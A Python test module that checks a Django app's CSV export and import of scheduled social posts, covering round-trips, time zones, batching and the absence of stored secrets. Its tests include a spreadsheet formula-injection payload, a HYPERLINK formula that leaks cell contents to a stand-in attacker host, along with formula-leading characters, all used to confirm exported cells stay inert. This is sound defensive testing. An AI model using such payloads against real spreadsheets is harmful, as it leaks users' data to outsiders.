"""Posts as CSV: the columns of an import, exact both ways, inert in a spreadsheet, a bounded number at a time."""

from __future__ import annotations

import csv
import uuid
from datetime import UTC, datetime
from io import StringIO
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from posts.models import Account, Post
from posts.selectors import csv_export
from posts.selectors.csv_export import MARK, exported_lines
from posts.services.csv_import import CsvImport
from posts.services.csv_reading import decoded, read_table
from posts.services.posts import schedule_post
from tests.posts.making import account, draft, picture, sent

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)'


def exported(posts: Any = None, accounts: Any = None, zone: str = "UTC") -> str:
    posts = Post.objects.all() if posts is None else posts
    return "".join(exported_lines(posts, Account.objects.all() if accounts is None else accounts, zone=zone))


def cells(text: str) -> list[dict[str, str]]:
    """Return the rows as a spreadsheet shows them."""
    return list(csv.DictReader(StringIO(text.removeprefix(MARK), newline="")))


def test_a_post_is_a_row_that_names_everything() -> None:
    ada, bob = account("Ada"), account("Bob; and co")
    cat, dog = picture("cat.jpg"), picture("dog;gy.jpg")
    post = draft(
        ada,
        bob,
        text="Hello\nall",
        media=[cat, dog],
        tags=["news", "big; sale"],
        own_texts={bob.pk: "For Bob"},
        language="en",
    )
    schedule_post(post, at=datetime(2031, 3, 1, 0, 30, tzinfo=UTC), timezone="Asia/Tokyo")
    text = exported()
    assert text.startswith(MARK)
    assert cells(text) == [
        {
            "text": "Hello\nall",
            "accounts": r"outbox:Ada; outbox:Bob\; and co",
            "scheduled_at": "2031-03-01T09:30",
            "timezone": "Asia/Tokyo",
            "status": "scheduled",
            "tags": r"big\; sale; news",
            "media": rf"{cat.pk}:cat.jpg; {dog.pk}:dog\;gy.jpg",
            "alt_text": "",
            "first_comment": "",
            "thread": "",
            "language": "en",
            "text[outbox:Bob; and co]": "For Bob",
        }
    ]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(sign: str) -> None:
    evil = account(f"{sign}cmd")
    post = draft(evil, text=f"{sign}1+1", tags=[f"{sign}tag"], own_texts={evil.pk: f"{sign}2"})
    Post.objects.filter(pk=post.pk).update(first_comment=f"{sign}3", language=sign)
    (row,) = cells(exported())
    found = [cell for each in row.items() for cell in each if cell]
    assert not [cell for cell in found if cell[0] in "=+-@\t\r"]
    assert row["text"] == f"'{sign}1+1"


def test_what_is_exported_is_imported_again_as_it_was() -> None:
    ada, bob = account("Ada"), account(HOSTILE)
    cat, dog = picture("cat.jpg"), picture(f"{HOSTILE}|;.jpg")
    texts = [HOSTILE, "'=quoted", "''", "a\nb", ' "x", y; z\t', "–"]
    for number, text in enumerate(texts):
        post = draft(
            ada, bob, text=text, own_texts={bob.pk: f"{text}!"}, tags=[f"t;{number}", "=tag"], first_comment="-1"
        )
        post.post_media.create(media=cat, position=0, alt_text=f"{text.strip()}|")
        post.post_media.create(media=dog, position=1, alt_text="")
        if number % 2:
            schedule_post(post, at=datetime(2031, 10, 26, number // 2, 30, tzinfo=UTC), timezone="Europe/Berlin")
    before = exported()
    work = CsvImport(read_table(decoded(before.encode())), None, "UTC")
    Post.objects.all().delete()
    verdicts = [work.import_row(row, uuid.uuid4()) for row in reversed(work.table.rows)]
    assert [verdict.problems for verdict in verdicts] == [[]] * len(texts)
    assert exported() == before


def test_a_time_that_happens_twice_keeps_its_offset() -> None:
    for hour in (0, 1):
        post = draft(account(f"A{hour}"))
        schedule_post(post, at=datetime(2031, 10, 26, hour, 30, tzinfo=UTC), timezone="Europe/Berlin")
    times = [row["scheduled_at"] for row in cells(exported())]
    assert times == ["2031-10-26T02:30+01:00", "2031-10-26T02:30+02:00"]


def test_accounts_of_one_name_are_told_apart_and_those_of_others_left_out() -> None:
    twins = [account("Twin"), account("twin")]
    draft(*twins, own_texts={twins[0].pk: "x"})
    (row,) = cells(exported())
    assert set(row["accounts"].split("; ")) == {str(twin.pk) for twin in twins}
    (row,) = cells(exported(accounts=Account.objects.filter(pk=twins[1].pk)))
    assert row["accounts"] == "outbox:twin"
    assert not [name for name in row if name.startswith("text[")]


def test_nothing_secret_is_in_it() -> None:
    ada = account("Ada", sealed_credentials="sealed-secret", config={"token": "config-secret"})
    sent(ada)
    assert "secret" not in exported()
    assert cells(exported())[0]["status"] == "published"


def test_many_posts_are_read_a_piece_at_a_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_export, "POSTS_AT_ONCE", 4)
    ada = account("Ada")
    for number in range(10):
        draft(ada, text=str(number), media=[picture()], tags=["t"])
    lines = exported_lines(Post.objects.all(), Account.objects.all(), zone="UTC")
    next(lines)
    with CaptureQueriesContext(connection) as queries:
        next(lines)
    assert len(queries) <= 6
    assert all("LIMIT 4" in query["sql"] or " IN (" in query["sql"] for query in queries)
    with CaptureQueriesContext(connection) as queries:
        assert len(list(lines)) == 9
    assert len(queries) <= 12
